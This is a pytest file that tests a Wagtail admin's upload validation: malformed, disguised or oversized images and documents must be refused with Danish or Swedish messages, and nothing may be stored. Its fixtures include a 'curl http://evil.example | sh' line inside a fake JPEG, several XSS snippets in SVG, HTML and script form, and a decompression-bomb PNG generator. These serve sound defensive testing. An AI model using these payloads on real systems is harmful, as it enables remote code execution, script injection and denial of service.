"""Uploads through the real Wagtail admin: a bad file is refused in the editor's language, and nothing is stored."""

import io
import struct
import zipfile
import zlib

import openpyxl
import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image as PILImage
from wagtail.documents import get_document_model
from wagtail.images import get_image_model
from wagtail.models import Collection, UploadedFile

from editorial.roles import EDITORS
from tests.factories import UserFactory
from uploads.forms import check_image_decodes

pytestmark = pytest.mark.django_db


@pytest.fixture
def media_root(settings, tmp_path):
    """An empty MEDIA_ROOT for the test, so anything stored shows up."""
    settings.MEDIA_ROOT = str(tmp_path / "media")
    return tmp_path / "media"


@pytest.fixture
def editor_client(client, site_content):
    """A communications editor (may add images and documents; no two-factor needed) signed in."""
    client.force_login(UserFactory(groups=[EDITORS]))
    return client


def stored_files(media_root) -> list:
    return [path for path in media_root.rglob("*") if path.is_file()] if media_root.exists() else []


def png_bytes(size=(64, 48)) -> bytes:
    image = PILImage.effect_noise(size, 64).convert("RGB")
    buffer = io.BytesIO()
    image.save(buffer, "PNG")
    return buffer.getvalue()


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def decompression_bomb_png(side=20_000) -> bytes:
    """A small file that decodes to side × side pixels: a black 1-bit PNG, its rows compressed to almost nothing."""
    compressor = zlib.compressobj(9)
    row = b"\x00" * (1 + side // 8)
    data = b"".join(compressor.compress(row) for _ in range(side)) + compressor.flush()
    header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", header) + png_chunk(b"IDAT", data) + png_chunk(b"IEND", b"")


def docx_bytes(parts=("[Content_Types].xml", "_rels/.rels", "word/document.xml")) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name in parts:
            archive.writestr(name, "<?xml version='1.0'?><x/>")
    return buffer.getvalue()


def ooxml_bytes(kind: str) -> bytes:
    """A minimal Office Open XML package of ``kind`` ("docx", "pptx" or "xlsx"): its content types and main part."""
    main_part = {"docx": "word/document.xml", "pptx": "ppt/presentation.xml", "xlsx": "xl/workbook.xml"}[kind]
    return docx_bytes(parts=("[Content_Types].xml", "_rels/.rels", main_part))


def xlsx_bytes() -> bytes:
    """A real spreadsheet, as a spreadsheet program saves it."""
    workbook = openpyxl.Workbook()
    workbook.active.append(["Distrikt", "By"])
    workbook.active.append(["Science City Lyngby", "Kongens Lyngby"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def opendocument_bytes(mimetype: str, first: str = "mimetype") -> bytes:
    """A minimal OpenDocument package: the uncompressed "mimetype" member first (or ``first``), then its content."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        if first != "mimetype":
            archive.writestr(first, "<?xml version='1.0'?><x/>")
        archive.writestr(zipfile.ZipInfo("mimetype"), mimetype)
        archive.writestr("content.xml", "<?xml version='1.0'?><office:document-content/>")
        archive.writestr("META-INF/manifest.xml", "<?xml version='1.0'?><manifest:manifest/>")
    return buffer.getvalue()


def png_with_a_damaged_checksum() -> bytes:
    """A PNG whose image data fails its checksum (damaged in transit): Pillow draws it, only a full check notices."""
    png = png_bytes()
    start = png.index(b"IDAT") - 4
    length = struct.unpack(">I", png[start : start + 4])[0]
    crc_at = start + 8 + length
    return png[:crc_at] + bytes(4 * [0x42]) + png[crc_at + 4 :]


def truncated_jpeg() -> bytes:
    """The first half of a JPEG: its header is intact, its pixels are missing."""
    buffer = io.BytesIO()
    PILImage.effect_noise((300, 200), 64).convert("RGB").save(buffer, "JPEG")
    return buffer.getvalue()[: len(buffer.getvalue()) // 2]


ODT = "application/vnd.oasis.opendocument.text"
ODS = "application/vnd.oasis.opendocument.spreadsheet"
PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"

BAD_IMAGES = {
    "script-named-jpg": ("holiday.jpg", b"#!/bin/sh\ncurl http://evil.example | sh\n<script>alert(1)</script>\n"),
    "truncated-png": ("cut-off.png", png_bytes((300, 200))[:900]),
    # Pillow and Wagtail read and draw this one; only the full check of every chunk refuses it.
    "damaged-checksum-png": ("damaged.png", png_with_a_damaged_checksum()),
    "decompression-bomb": ("bomb.png", decompression_bomb_png()),
    # Below Pillow's own bomb limit, above ours: refused from the header, before anything decodes it.
    "decompression-bomb-81-megapixels": ("large.png", decompression_bomb_png(side=9_000)),
}
# What the refusal says, in Danish and in Swedish.
IMAGE_MESSAGES = {
    "script-named-jpg": ("ikke et billede", "inte en bild"),
    "truncated-png": ("beskadiget eller ufuldstændig", "skadad eller ofullständig"),
    "damaged-checksum-png": ("beskadiget eller ufuldstændig", "skadad eller ofullständig"),
    "decompression-bomb": ("for mange pixels", "för många pixlar"),
    "decompression-bomb-81-megapixels": ("for mange pixels", "för många pixlar"),
}
BAD_DOCUMENTS = {
    "html-named-pdf": ("annual-report.pdf", b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"),
    "zip-named-docx": ("minutes.docx", docx_bytes(parts=("notes.txt",))),
    # Each Office type must be that type, not just any Office file.
    "xlsx-named-docx": ("minutes.docx", xlsx_bytes()),
    "pptx-named-xlsx": ("budget.xlsx", ooxml_bytes("pptx")),
    "docx-named-pptx": ("slides.pptx", ooxml_bytes("docx")),
    "zip-named-xlsx": ("budget.xlsx", docx_bytes(parts=("xl/workbook.xml",))),
    "ods-named-odt": ("minutes.odt", opendocument_bytes(ODS)),
    "odt-without-leading-mimetype": ("minutes.odt", opendocument_bytes(ODT, first="Thumbnails/thumbnail.png")),
    "docx-named-odt": ("minutes.odt", ooxml_bytes("docx")),
    "binary-named-txt": ("readme.txt", png_bytes()),
    "html-named-csv": ("members.csv", b"<html><script>alert(1)</script></html>"),
}
DOCUMENT_MESSAGES = ("ikke et rigtigt", "inte ett riktigt")


def upload_image(client, name, content, language, multiple):
    """Post one image the way the admin does; return the error message, or None if it was accepted."""
    upload = SimpleUploadedFile(name, content)
    headers = {"HTTP_ACCEPT_LANGUAGE": language}
    root = Collection.get_first_root_node().pk
    if multiple:
        response = client.post(
            "/admin/images/multiple/add/", {"files[]": upload, "collection": root},
            HTTP_X_REQUESTED_WITH="XMLHttpRequest", **headers,
        )
        data = response.json()
        return None if data["success"] else data["error_message"]
    response = client.post("/admin/images/add/", {"title": name, "file": upload, "collection": root}, **headers)
    if response.status_code == 302:
        return None
    return " ".join(response.context["form"].errors["file"])


def upload_document(client, name, content, language, multiple):
    """Post one document the way the admin does; return the error message, or None if it was accepted."""
    upload = SimpleUploadedFile(name, content)
    headers = {"HTTP_ACCEPT_LANGUAGE": language}
    root = Collection.get_first_root_node().pk
    if multiple:
        response = client.post(
            "/admin/documents/multiple/add/", {"files[]": upload, "collection": root},
            HTTP_X_REQUESTED_WITH="XMLHttpRequest", **headers,
        )
        data = response.json()
        return None if data["success"] else data["error_message"]
    response = client.post("/admin/documents/add/", {"title": name, "file": upload, "collection": root}, **headers)
    if response.status_code == 302:
        return None
    return " ".join(response.context["form"].errors["file"])


def counts() -> tuple[int, int, int]:
    return get_image_model().objects.count(), get_document_model().objects.count(), UploadedFile.objects.count()


@pytest.fixture
def before():
    """The number of images, documents and pending uploads before the test uploads anything."""
    return counts()


def assert_nothing_stored(media_root, before):
    assert counts() == before
    assert stored_files(media_root) == []


@pytest.mark.parametrize("multiple", [True, False], ids=["multiple-uploader", "single-add-form"])
@pytest.mark.parametrize("case", BAD_IMAGES)
@pytest.mark.parametrize("language", ["da", "sv"])
def test_a_bad_image_is_refused_with_a_message_and_nothing_is_stored(
    editor_client, media_root, before, case, language, multiple
):
    name, content = BAD_IMAGES[case]
    message = upload_image(editor_client, name, content, language, multiple)
    assert message is not None, f"{case} was accepted"
    expected = IMAGE_MESSAGES[case][0 if language == "da" else 1]
    assert expected in message
    assert_nothing_stored(media_root, before)


@pytest.mark.parametrize("multiple", [True, False], ids=["multiple-uploader", "single-add-form"])
@pytest.mark.parametrize("case", BAD_DOCUMENTS)
@pytest.mark.parametrize("language", ["da", "sv"])
def test_a_disguised_document_is_refused_with_a_message_and_nothing_is_stored(
    editor_client, media_root, before, case, language, multiple
):
    name, content = BAD_DOCUMENTS[case]
    message = upload_document(editor_client, name, content, language, multiple)
    assert message is not None, f"{case} was accepted"
    assert DOCUMENT_MESSAGES[0 if language == "da" else 1] in message
    assert "\n" not in message.strip(), "one clear message, not several"
    assert_nothing_stored(media_root, before)


# Markup a browser would run if the file were opened from the site: none of it is a plain text or CSV file,
# whatever case or leading blank space (and byte-order mark) it comes with.
MARKUP_NAMED_AS_TEXT = {
    "svg-named-txt": ("logo.txt", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"></svg>'),
    "svg-upper-case-after-a-bom-named-csv": ("members.csv", b'\xef\xbb\xbf\n  <SVG onload="alert(1)"></SVG>'),
    "xml-prolog-named-csv": ("members.csv", b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>'),
    "script-named-txt": ("notes.txt", b"<script>alert(1)</script>"),
    "iframe-named-txt": ("notes.txt", b'<iframe src="https://example.org/"></iframe>'),
    "body-named-csv": ("members.csv", b"<body onload=alert(1)>"),
}


@pytest.mark.parametrize("case", MARKUP_NAMED_AS_TEXT)
def test_markup_named_as_a_text_or_csv_file_is_refused(editor_client, media_root, before, case):
    name, content = MARKUP_NAMED_AS_TEXT[case]
    message = upload_document(editor_client, name, content, "da", multiple=False)
    assert message is not None, f"{case} was accepted"
    assert DOCUMENT_MESSAGES[0] in message
    assert_nothing_stored(media_root, before)


def test_a_document_of_a_type_not_allowed_is_refused(editor_client, media_root, before):
    message = upload_document(editor_client, "tool.exe", b"MZ\x90\x00" + b"\x00" * 100, "da", multiple=True)
    assert "PDF" in message and "DOCX" in message
    assert_nothing_stored(media_root, before)


def test_a_document_larger_than_the_limit_is_refused(editor_client, media_root, before, settings):
    settings.WAGTAILDOCS_MAX_UPLOAD_SIZE = 1024
    message = upload_document(editor_client, "big.pdf", PDF + b"0" * 2048, "sv", multiple=True)
    assert "för stor" in message
    assert_nothing_stored(media_root, before)


@pytest.mark.parametrize("multiple", [True, False], ids=["multiple-uploader", "single-add-form"])
def test_real_images_and_documents_are_accepted(editor_client, media_root, before, multiple):
    assert upload_image(editor_client, "photo.png", png_bytes(), "da", multiple) is None
    for name, content in [
        ("report.pdf", PDF),
        ("minutes.docx", docx_bytes()),
        ("minutes.odt", opendocument_bytes(ODT)),
        ("slides.pptx", ooxml_bytes("pptx")),
        ("budget.xlsx", xlsx_bytes()),
        ("members.csv", "navn;by\nSøren;Lyngby\n".encode()),
        ("notes.txt", b"Plain text.\n"),
    ]:
        assert upload_document(editor_client, name, content, "da", multiple) is None, name
    images, documents, _pending = before
    assert counts()[:2] == (images + 1, documents + 7)
    assert len(stored_files(media_root)) >= 8


def test_the_full_check_decodes_every_pixel_not_only_the_header():
    # Pillow's verify() passes a JPEG cut in half; only decoding its pixels shows that they are missing.
    with pytest.raises(ValidationError, match="beskadiget|damaged"):
        check_image_decodes(io.BytesIO(truncated_jpeg()))
    with pytest.raises(ValidationError):
        check_image_decodes(io.BytesIO(png_with_a_damaged_checksum()))
    check_image_decodes(io.BytesIO(png_bytes()))
